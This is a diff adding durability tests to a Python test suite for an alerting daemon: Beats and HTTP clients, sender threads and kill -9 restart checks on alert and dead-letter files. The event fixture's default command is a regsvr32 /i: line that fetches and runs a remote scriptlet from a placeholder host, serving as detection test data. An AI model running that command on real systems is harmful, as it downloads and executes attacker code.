@@ -1,7 +1,15 @@
 """What was acknowledged is not lost, and what is sent again is known again."""
+import http.client
 import json
+import os
+import random
+import socket
+import struct
+import threading
+import time
+import zlib
 
-from harness import Case, eventually, main
+from harness import DEADLINE, LONG, Case, eventually, main
 
 
 def event(n, host="ws-1.corp.example", command="regsvr32 /s /u /i:http://files.example.net/{}.sct scrobj.dll"):
@@ -77,6 +85,167 @@ class Duplicates(Case):
         d = self.daemon(upstream=up)
         d.send(event(1) + event(1))
         self.assertEqual(self.assert_stops(d, 2)["alerted"], 2)
+
+
+class Beats:
+    """Sends windows as Lumberjack version 2 and waits for each acknowledgement."""
+
+    def __init__(self, port):
+        self.socket = socket.create_connection(("127.0.0.1", port), timeout=DEADLINE)
+        self.pack = False
+
+    def send(self, records):
+        """Returns when all are acknowledged; raises OSError when that will never be."""
+        frames = b"".join(b"2J" + struct.pack(">II", i, len(r)) + r for i, r in enumerate(records, 1))
+        if self.pack:
+            packed = zlib.compress(frames, 3)
+            frames = b"2C" + struct.pack(">I", len(packed)) + packed
+        self.pack = not self.pack
+        self.socket.sendall(b"2W" + struct.pack(">I", len(records)) + frames)
+        done = 0
+        while done < len(records):
+            ack = b""
+            while len(ack) < 6:
+                more = self.socket.recv(6 - len(ack))
+                if not more:
+                    raise ConnectionError("closed")
+                ack += more
+            kind, done = struct.unpack(">2sI", ack)
+            if kind != b"2A" or done > len(records):
+                raise AssertionError(f"no acknowledgement of {len(records)} events: {ack!r}")
+
+    def close(self):
+        self.socket.close()
+
+
+class Http:
+    """Posts lines and waits for each answer."""
+
+    def __init__(self, port):
+        self.connection = http.client.HTTPConnection("127.0.0.1", port, timeout=DEADLINE)
+
+    def send(self, records):
+        self.connection.request("POST", "/events", b"\n".join(records) + b"\n")
+        answer = self.connection.getresponse()
+        answer.read()
+        if answer.status != 200:
+            raise ConnectionError(f"status {answer.status}")
+
+    def close(self):
+        self.connection.close()
+
+
+class Sender(threading.Thread):
+    """Sends one window after another, the same again until it is acknowledged."""
+
+    def __init__(self, kind, port, first):
+        super().__init__(daemon=True)
+        self.kind, self.port, self.next = kind, port, first
+        self.acknowledged, self.answers, self.error = [], 0, None
+        self.running = True
+        self.dice = random.Random(first)
+
+    def run(self):
+        try:
+            self._run()
+        except Exception as e:  # told by the test, which runs on another thread
+            self.error = e
+
+    def _run(self):
+        self.connection = None
+        while self.running:
+            numbers = list(range(self.next, self.next + self.dice.randint(1, 40)))
+            self.next = numbers[-1] + 1
+            self._deliver(numbers)
+        self.connection.close()
+
+    def _deliver(self, numbers):
+        records = [f"broken {n}".encode() if n % 10 == 9 else event(n).strip() for n in numbers]
+        while True:
+            try:
+                if not self.connection:
+                    self.connection = self.kind(self.port)
+                self.connection.send(records)
+                self.acknowledged += numbers
+                self.answers += 1
+                return
+            except (OSError, http.client.HTTPException):
+                if self.connection:
+                    self.connection.close()
+                self.connection = None
+                time.sleep(0.02)
+
+
+class Kill(Case):
+    ROUNDS = 40 if LONG else 5
+
+    def start(self, kind, port, up, **named):
+        dead = os.path.join(self.folder, "dead.ndjson")
+        return self.daemon(f"inputs:\n  - type: {kind}\n    listen: 127.0.0.1:{port}\n"
+                           f"outputs:\n  - type: file\n    path: {self.folder}/alerts.ndjson\n"
+                           f"  - type: tcp\n    address: 127.0.0.1:{up.port}\n"
+                           "    retry_min: 10ms\n    retry_max: 50ms\n"
+                           f"dead_letter:\n  path: {dead}\n", inputs=False, **named)
+
+    def numbers_in(self, name, number):
+        """The numbers in a file that may hold lines torn by a kill."""
+        found = set()
+        with open(os.path.join(self.folder, name), "rb") as f:
+            for line in f:
+                try:
+                    found.add(number(json.loads(line)))
+                except ValueError:
+                    continue
+        return found
+
+    def check(self, kind, client):
+        up = self.upstream()
+        up.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # what is not read is not taken either
+        d = self.daemon(f"inputs:\n  - type: {kind}\n    listen: 127.0.0.1:0\n", inputs=False)
+        port, self.folder = d.port(kind), d.folder
+        d.kill()
+        dice = random.Random(kind)
+        senders = [Sender(client, port, 1_000_000 * i) for i in (1, 2, 3)]
+        for sender in senders:
+            sender.start()
+        for _ in range(self.ROUNDS):
+            d = self.start(kind, port, up, folder=self.folder)
+            d.port(kind)
+            before = [s.answers for s in senders]
+            eventually("answers", lambda before=before: all(
+                s.answers > n + 2 or s.error for s, n in zip(senders, before)))
+            up.stalled = dice.random() < 0.6  # so that there is something in the queue
+            time.sleep(dice.random() * 0.3)
+            d.kill()
+            up.stalled = False
+        d = self.start(kind, port, up, folder=self.folder)
+        for sender in senders:
+            sender.running = False
+        for sender in senders:
+            sender.join(DEADLINE)
+            self.assertIsNone(sender.error)
+            self.assertFalse(sender.is_alive())
+        self.assert_stops(d)
+        sent = {n for s in senders for n in s.acknowledged}
+        events, broken = {n for n in sent if n % 10 != 9}, {n for n in sent if n % 10 == 9}
+        self.assertGreater(len(events), 100)
+        self.assertEqual(events - self.numbers_in("alerts.ndjson", lambda a: int(a["winlog"]["record_id"])), set())
+        eventually("all alerts", lambda: not events - {int(a["winlog"]["record_id"]) for a in self.whole(up)})
+        self.assertEqual(broken - self.numbers_in("dead.ndjson", lambda a: int(a["record"].split()[1])), set())
+
+    @staticmethod
+    def whole(up):
+        for line in list(up.lines):
+            try:
+                yield json.loads(line)
+            except ValueError:
+                continue  # begun by one that was killed
+
+    def test_what_was_acknowledged_to_a_beat_survives_kill_9(self):
+        self.check("beats", Beats)
+
+    def test_what_was_answered_over_http_survives_kill_9(self):
+        self.check("http", Http)
 
 
 if __name__ == "__main__":
